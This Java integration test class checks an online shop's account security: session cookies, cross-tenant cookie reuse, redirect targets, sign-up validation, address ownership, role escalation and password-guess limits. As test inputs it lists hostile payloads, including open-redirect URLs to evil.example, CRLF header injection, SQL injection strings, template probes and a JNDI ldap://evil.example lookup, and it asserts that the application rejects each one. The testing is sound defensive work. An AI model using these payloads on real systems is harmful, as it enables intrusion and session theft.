package dev.galleria.journey;

import static org.assertj.core.api.Assertions.assertThat;

import dev.galleria.harness.InApplication;
import dev.galleria.harness.Ready;
import dev.galleria.harness.Shop;
import dev.galleria.harness.ShopBooks;
import dev.galleria.harness.ShopOffice;
import dev.galleria.harness.ShopWire;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** Part 4 of the promises around accounts: signing up and in, sessions, where one is sent, others' addresses. */
@RunAsClient
class HostileAccountJourneyIT extends InApplication {
    private static final String BOOK = "/account/addresses";
    private ShopBooks books;

    @BeforeEach
    void ready() {
        Ready.await();
        books = new ShopBooks("atelier");
    }

    @Test
    @DisplayName("2, 64, 65: a session is given at the door, to one tenant's browser, and ends at the door")
    void bindsASessionToItsShop() {
        var shop = new Shop("atelier");
        shop.cookies().put("gs", "fixed");
        shop.cookies().put("ga", "A".repeat(43));
        var headers = signIn(shop, "shopper@atelier.example", "/account/orders").headers();
        assertThat(headers.get("set-cookie").toString())
                .contains("ga=")
                .contains("HttpOnly")
                .contains("SameSite=Lax")
                .doesNotContain("Domain=");
        assertThat(shop.cookies().get("ga")).isNotEqualTo("A".repeat(43));
        var taken = new LinkedHashMap<>(shop.cookies());
        for (var host : List.of("gearhub", "greenmarket")) {
            var other = new Shop(host);
            other.cookies().putAll(taken);
            assertThat(other.getOnce("/account/orders").header("location")).contains("/sign-in");
        }
        assertThat(ShopWire.get(shop.host(), "/account/orders;jsessionid=" + taken.get("ga"), ""))
                .doesNotStartWith("HTTP/1.1 200");
        var out = shop.get("/sign-out").page().selectFirst("main form[action$=/sign-out], form[action$=/sign-out]");
        shop.submit(out, Map.of());
        var thief = new Shop("atelier");
        thief.cookies().putAll(taken);
        assertThat(thief.getOnce("/account/orders").header("location")).contains("/sign-in");
    }

    @Test
    @DisplayName("75, 90: where to go after signing in is a path of this host")
    void sendsNobodyElsewhere() {
        var shop = new Shop("atelier");
        signIn(shop, "shopper@atelier.example", "");
        for (var next : List.of(
                "//evil.example",
                "https:evil.example",
                "https://evil.example",
                "/\\evil.example",
                "\\\\evil.example",
                "%2f%2fevil.example",
                "javascript:alert(1)",
                "https://atelier.localhost@evil.example",
                "/\r\nSet-Cookie: evil=1",
                "/\u0000//evil.example",
                "/\tevil.example",
                "x".repeat(5_000))) {
            var query = "?" + Shop.encoded(Map.of("next", next));
            for (var path : List.of("/sign-in", "/sign-up")) {
                var answer = shop.getOnce(path + query);
                assertThat(answer.status()).as(next).isEqualTo(302);
                assertThat(answer.header("location")).as(next).endsWith("/account/orders");
                assertThat(answer.headers()
                                .getOrDefault("set-cookie", List.of())
                                .toString())
                        .doesNotContain("evil");
                var form = new Shop("atelier").get(path + query).page();
                assertThat(form.select("input[name=next]").val()).as(next).isEmpty();
                assertThat(form.select("main a[href*=evil], a[href^=javascript]"))
                        .as(next)
                        .isEmpty();
            }
        }
    }

    @Test
    @DisplayName("67, 69, 71, 86, 88, 114: signing up and in with what is no name or address")
    void opensNoAccountForRubbish() {
        long accounts = books.number("SELECT count(*) FROM account");
        var shop = new Shop("atelier");
        var fields = Shop.fields(shop.get("/sign-up").page().selectFirst("form[action$=/sign-up]"));
        for (var wrong : List.of(
                Map.of("email", "a@x\r\nBcc: b@y.example"),
                Map.of("email", "\"<script>\"@x.example"),
                Map.of("email", "a@x.example\u0000"),
                Map.of("email", "sh\u043epper@atelier.example"),
                Map.of("email", "a".repeat(50_000) + "!@x.example"),
                Map.of("email", "#{7*7}"),
                Map.of("name", ""),
                Map.of("name", "a\u0000b"),
                Map.of("name", "a\r\nb"),
                Map.of("name", "\u202egnp"),
                Map.of("name", "x".repeat(101)))) {
            var form = new LinkedHashMap<>(fields);
            form.putAll(Map.of("name", "N", "email", "hostile-sign-up@x.example"));
            form.putAll(wrong);
            var answer = shop.post("/sign-up", form, false);
            assertThat(answer.status()).as(wrong.toString()).isEqualTo(422);
            assertThat(answer.body()).doesNotContain("<script>\"@x");
        }
        // A known address in another spelling is answered as a new one and opens nothing.
        fields.putAll(Map.of("name", "N", "email", "SHOPPER@atelier.example"));
        assertThat(shop.post("/sign-up", fields, false).status()).isIn(302, 422);
        assertThat(books.number("SELECT count(*) FROM account")).isEqualTo(accounts);
        for (var email : List.of("' OR 1=1--", "a\u0000b", "x".repeat(50_000), "${jndi:ldap://evil.example/x}", "")) {
            var answer = signIn(new Shop("atelier"), email, "");
            assertThat(answer.status()).as(email).isEqualTo(422);
            assertThat(answer.headers().toString()).doesNotContain("ga=");
        }
    }

    @Test
    @DisplayName("46, 50, 62, 114: another's address by id, fields that are nobody's business, rubbish in every field")
    void keepsAddressesToTheirOwner() {
        var shop = new Shop("atelier");
        signIn(shop, "shopper@atelier.example", "");
        var token = shop.get(BOOK).page().selectFirst("input[name=_token]").val();
        var foreign = books.rows("SELECT a.id FROM address a JOIN account o ON o.id = a.account_id"
                        + " WHERE o.email <> 'shopper@atelier.example' LIMIT 1")
                .get(0)
                .get("id");
        var before = books.fingerprint().get("address");
        for (var id : List.of(foreign, "00000000-0000-0000-0000-000000000000", "x", "' OR 1=1--", "a\u0000b")) {
            for (var action : List.of("save", "remove", "prefer", "#{7*7}")) {
                var fields = address(token);
                fields.put("id", id);
                fields.put("action", action);
                assertThat(shop.post(BOOK, fields, false).status())
                        .as(action + " " + id)
                        .isEqualTo(404);
            }
            var query = "?" + Shop.encoded(Map.of("id", id));
            assertThat(shop.get(BOOK + query).status()).as(id).isIn(200, 404);
        }
        for (var rubbish :
                List.of("a\u0000b", "a\r\nb", "\u202egnp", "x".repeat(5_000), "a\u2028b", "\ud83d\ude00".repeat(60))) {
            var fields = address(token);
            var all = List.of("name", "company", "line1", "line2", "postalCode", "city", "region", "country", "phone");
            all.forEach(field -> fields.put(field, rubbish));
            var answer = shop.post(BOOK, fields, false);
            assertThat(answer.status()).isEqualTo(422);
            assertThat(answer.page().select(".field__error")).hasSize(all.size());
        }
        var noToken = address("x");
        assertThat(shop.post(BOOK, noToken, false).status()).isEqualTo(403);
        assertThat(shop.getOnce(BOOK + "?" + Shop.encoded(address(token))).status())
                .isEqualTo(200);
        assertThat(books.fingerprint().get("address")).isEqualTo(before);
        var roles = books.number("SELECT count(*) FROM account_role");
        var greedy = address(token);
        greedy.putAll(Map.of("role", "OWNER", "user.role", "OWNER", "account_id", foreign, "tenantId", "gearhub"));
        shop.post(BOOK, greedy, false);
        assertThat(books.number("SELECT count(*) FROM account_role")).isEqualTo(roles);
        assertThat(ShopOffice.of("atelier", "shopper@atelier.example")
                        .get("/backoffice")
                        .status())
                .isEqualTo(403);
    }

    @Test
    @DisplayName("a session that was left open does not tell its password, however often one guesses")
    void guessingTheOldPasswordEnds() {
        var shop = new Shop("atelier");
        signIn(shop, "hansekontor@atelier.example", "");
        var token = shop.get("/account/profile")
                .page()
                .selectFirst("input[name=_token]")
                .val();
        var before = password("hansekontor@atelier.example");
        var fields = new LinkedHashMap<>(Map.of("_token", token, "action", "password", "password", "another-one-2026"));
        for (int guess = 0; guess < 10; guess++) {
            fields.put("before", "guess-" + guess);
            assertThat(shop.post("/account/profile", fields, false).status()).isEqualTo(422);
        }
        fields.put("before", "galleria-demo");
        var answer = shop.post("/account/profile", fields, false);
        assertThat(answer.status()).isEqualTo(429);
        assertThat(answer.page().select("main").text()).contains("Too many attempts");
        assertThat(password("hansekontor@atelier.example")).isEqualTo(before);
    }

    private String password(String email) {
        return books.rows("SELECT password_hash FROM account WHERE email = '" + email + "'")
                .get(0)
                .get("password_hash");
    }

    private static Map<String, String> address(String token) {
        return new LinkedHashMap<>(Map.of(
                "_token", token,
                "action", "save",
                "name", "Hostile",
                "line1", "Lindenstraße 12",
                "postalCode", "10969",
                "city", "Berlin",
                "country", "DE"));
    }

    private static Shop.Answer signIn(Shop shop, String email, String next) {
        var fields = Shop.fields(shop.get("/sign-in").page().selectFirst("form[action$=/sign-in]"));
        fields.putAll(Map.of("email", email, "password", "galleria-demo", "next", next));
        return shop.post("/sign-in", fields, false);
    }
}
